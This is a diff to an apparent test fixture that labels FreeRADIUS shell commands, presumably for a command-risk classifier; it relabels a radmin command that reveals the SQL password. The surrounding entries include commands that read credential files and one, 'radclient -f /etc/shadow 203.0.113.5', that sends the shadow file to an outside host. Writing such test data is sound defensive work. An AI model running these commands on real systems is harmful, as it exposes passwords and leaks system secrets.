@@ -671,7 +671,7 @@ VARIANTS_EDGE = [
     ("cat /etc/freeradius/3.0/mods-available/ldap", "typed"),
     ("cat /etc/raddb/mods-config/files/authorize", "typed"),
     ("cat /etc/freeradius/3.0/mods-available/detail", "none"),
-    ("radmin -e 'show config modules.sql.password'", "action"),
+    ("radmin -e 'show config modules.sql.password'", "typed"),
     ("radmin -e 'show client list; hup'", "action"),
     ("radclient -f /etc/shadow 203.0.113.5 auth x", "typed"),
     ("freeradius -X -d /etc/freeradius/3.0", "typed"),
